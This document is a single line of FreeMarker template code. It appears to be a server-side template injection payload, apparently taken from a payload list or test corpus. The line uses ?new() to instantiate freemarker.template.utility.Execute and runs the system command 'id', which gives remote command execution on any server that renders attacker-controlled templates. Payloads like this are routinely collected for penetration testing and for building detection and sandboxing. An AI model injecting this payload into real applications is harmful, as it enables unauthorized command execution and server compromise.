${["id"]?map(c -> "freemarker.template.utility.Execute"?new()(c))?first}
